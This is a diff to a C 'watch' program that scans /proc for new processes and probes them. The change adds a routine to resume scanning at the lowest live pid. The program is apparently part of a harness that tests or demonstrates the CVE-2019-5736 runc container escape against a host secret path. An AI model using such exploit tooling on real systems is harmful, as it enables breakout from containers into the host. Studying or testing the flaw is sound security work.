@@ -121,6 +121,20 @@ static void probe(int pid) {
     fflush(stdout);
 }
 
+/* The lowest pid above `from` that /proc lists now, or 0. */
+static int lowest_pid_from(int from) {
+    DIR *d = opendir("/proc");
+    if (!d) return 0;
+    int low = 0;
+    struct dirent *e;
+    while ((e = readdir(d))) {
+        int p = atoi(e->d_name);
+        if (p >= from && (low == 0 || p < low)) low = p;
+    }
+    closedir(d);
+    return low;
+}
+
 int main(int argc, char **argv) {
     if (argc != 5) {
         fprintf(stderr, "usage: watch HOST_DEV HOST_INO SECRET_PATH SECONDS\n");
@@ -136,6 +150,7 @@ int main(int argc, char **argv) {
     signal(SIGTERM, on_term);
     printf("READY\n");
     int next = getpid() + 1, seen = 0;
+    unsigned long idle = 0;
     char path[64], later[64];
     while (now() < end && !stop) {
         snprintf(path, sizeof path, "/proc/%d", next);
@@ -144,8 +159,15 @@ int main(int argc, char **argv) {
             probe(next);
             seen++;
             next++;
+            idle = 0;
         } else if (access(later, F_OK) == 0) {
             next++;
+            idle = 0;
+        } else if (++idle % 4096 == 0) {
+            /* On a loaded machine a short-lived process (and the one after it) can come and go
+             * between two looks: resume at the lowest pid alive above the one awaited. */
+            int low = lowest_pid_from(next);
+            if (low > 0) next = low;
         }
     }
     /* CVE-2019-5736 proper: once the process is gone the binary is no longer busy; a handle kept from
